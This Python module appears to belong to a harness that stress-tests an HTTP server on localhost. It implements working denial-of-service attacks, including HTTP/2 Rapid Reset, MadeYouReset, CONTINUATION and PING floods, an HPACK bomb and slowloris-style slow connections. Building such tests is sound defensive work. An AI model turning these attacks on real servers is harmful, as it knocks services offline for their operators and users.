"""The attacks of attack.py: each is what one process does to a port, for ever. Bytes are made
beforehand, so that an attacker costs little and the node has to do the work."""

import contextlib
import itertools
import socket
import time

import h2_wire

HELD = 400  # connections of those that hold many
SOURCE = ("127.0.0.2", 0)  # another client than the one that is measured
HELLO = h2_wire.PREFACE + h2_wire.settings()
GET = h2_wire.encode(h2_wire.request("/1k.bin"))
LARGE = h2_wire.encode(h2_wire.request("/1m.bin"))
POST = h2_wire.encode(h2_wire.request("/1k.bin", method="POST"))


def connect(port: int) -> socket.socket:
    connection = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=SOURCE)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def over_and_over(port: int, hello: bytes, block: bytes, *, blocks: int = 10_000) -> None:
    """One connection after the other: `hello`, then the same bytes until the node has enough."""
    while True:
        with contextlib.suppress(OSError), connect(port) as connection:
            connection.sendall(hello)
            connection.setblocking(False)
            for _ in range(blocks):
                send_all(connection, block)
                with contextlib.suppress(BlockingIOError):
                    if not connection.recv(1 << 20):
                        break


def send_all(connection: socket.socket, data: bytes) -> None:
    left = memoryview(data)
    while left:
        try:
            left = left[connection.send(left) :]
        except BlockingIOError:
            with contextlib.suppress(BlockingIOError):
                if not connection.recv(1 << 20):
                    raise ConnectionResetError from None
            time.sleep(0.0005)


def streams_of(make) -> bytes:
    """A few hundred streams, which is more than the budget of one connection lets through."""
    return b"".join(make(stream) for stream in range(1, 4000, 2))


def rapid_reset(port: int) -> None:
    """CVE-2023-44487."""
    block = streams_of(lambda s: h2_wire.headers(s, GET) + h2_wire.rst_stream(s))
    over_and_over(port, HELLO, block, blocks=1)


def made_you_reset(port: int) -> None:
    """CVE-2025-8671: the node is made to reset."""
    block = streams_of(lambda s: h2_wire.headers(s, GET) + h2_wire.window_update(s, 0))
    over_and_over(port, HELLO, block, blocks=1)


def continuation_flood(port: int) -> None:
    head = h2_wire.headers(1, GET, 0)
    field = h2_wire.continuation(1, h2_wire.literal("x", "y" * 100) * 80, 0)
    over_and_over(port, HELLO + head, field * 8)


def settings_flood(port: int) -> None:
    over_and_over(port, HELLO, h2_wire.settings((4, 65535)) * 500)


def ping_flood(port: int) -> None:
    over_and_over(port, HELLO, h2_wire.ping() * 500)


def empty_data_flood(port: int) -> None:
    hello = HELLO + h2_wire.headers(1, POST, h2_wire.END_HEADERS)
    over_and_over(port, hello, h2_wire.data(1, b"", 0) * 500)


def priority_churn(port: int) -> None:
    block = b"".join(h2_wire.priority(s, 0, s % 256) for s in range(1, 1000, 2))
    over_and_over(port, HELLO, block)


def hpack_bomb(port: int) -> None:
    """One large entry of the table, named again and again."""
    first = h2_wire.headers(1, GET + h2_wire.literal("x-a", "b" * 3900, adds=True))
    bombs = (h2_wire.headers(s, GET + h2_wire.indexed(62) * 4000) for s in range(3, 41, 2))
    over_and_over(port, HELLO, first + b"".join(bombs), blocks=1)


def malformed_heads(port: int) -> None:
    heads = itertools.cycle(
        [
            b"GET  / HTTP/1.1\r\nHost: t\r\n\r\n",
            b"GET / HTTP/1.1\r\nHost: t\r\nHost: u\r\n\r\n",
            b"POST / HTTP/1.1\r\nHost: t\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
            b"GET / HTTP/1.1\r\nHost: t\r\n" + b"X: y\r\n" * 1000 + b"\r\n",
        ]
    )
    while True:
        with contextlib.suppress(OSError), connect(port) as connection:
            connection.sendall(next(heads))
            connection.recv(65536)


def tiny_chunks(port: int) -> None:
    head = b"POST /1k.bin HTTP/1.1\r\nHost: t\r\nTransfer-Encoding: chunked\r\n\r\n"
    over_and_over(port, head, b"1\r\nx\r\n" * 2000)


def held(port: int, words: bytes, then: bytes, pause: float) -> None:
    """Many connections that say something now and then."""
    connections: list[socket.socket] = []
    while True:
        while len(connections) < HELD:
            with contextlib.suppress(OSError):
                connection = connect(port)
                connection.sendall(words)
                connection.setblocking(False)
                connections.append(connection)
        time.sleep(pause)
        for connection in list(connections):
            try:
                connection.send(then)
            except BlockingIOError:
                pass
            except OSError:
                connections.remove(connection)
                connection.close()


def slow_heads(port: int) -> None:
    held(port, b"GET / HTTP/1.1\r\nHost: t\r\n", b"X: y\r\n", 0.5)


def slow_bodies(port: int) -> None:
    head = b"POST /1k.bin HTTP/1.1\r\nHost: t\r\nContent-Length: 100000\r\n\r\n"
    held(port, head, b"x", 0.5)


def slow_readers(port: int) -> None:
    """They ask for a mebibyte, ten times, and take nothing."""
    held(port, b"GET /1m.bin HTTP/1.1\r\nHost: t\r\n\r\n" * 10, b"", 0.5)


def shut_windows(port: int) -> None:
    words = h2_wire.PREFACE + h2_wire.settings((4, 1))
    words += b"".join(h2_wire.headers(s, LARGE) for s in range(1, 201, 2))
    held(port, words, h2_wire.ping(), 0.5)


def many_connections(port: int) -> None:
    while True:
        batch = []
        for _ in range(100):
            with contextlib.suppress(OSError):
                batch.append(connect(port))
        for connection in batch:
            connection.close()


ATTACKS = {
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "continuation": continuation_flood,
    "settings": settings_flood,
    "ping": ping_flood,
    "empty-data": empty_data_flood,
    "priority": priority_churn,
    "hpack-bomb": hpack_bomb,
    "malformed-heads": malformed_heads,
    "tiny-chunks": tiny_chunks,
    "slow-heads": slow_heads,
    "slow-bodies": slow_bodies,
    "slow-readers": slow_readers,
    "shut-windows": shut_windows,
    "many-connections": many_connections,
}


def run(name: str, port: int) -> None:
    ATTACKS[name](port)
